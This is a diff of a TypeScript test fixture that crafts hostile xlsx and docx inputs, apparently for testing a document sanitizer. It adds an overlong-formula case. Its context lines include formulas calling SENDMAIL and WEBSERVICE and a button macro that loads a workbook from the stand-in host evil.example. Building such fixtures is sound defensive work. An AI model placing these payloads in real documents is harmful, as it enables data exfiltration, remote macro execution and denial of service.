@@ -199,6 +199,7 @@ const formulas: CraftedSet = {
   ),
   '公式：多维数据集、PY': xlsx('hostile', () => formula('CUBEVALUE("a","b")+_xlws.PY(0,1)')),
   '公式：不认识的函数': xlsx('hostile', () => formula('SENDMAIL(A1)')),
+  '公式：过长': xlsx('hostile', () => formula(`A1${'+A1'.repeat(20_000)}`)),
   '公式：引号不成对': xlsx('hostile', () => formula('"a&WEBSERVICE(A1)')),
   '公式：按钮的宏在别的文件里': docx('hostile', () =>
     vml("<xml><x:FmlaMacro>'\\\\evil.example\\a.xlsm'!m</x:FmlaMacro></xml>"),
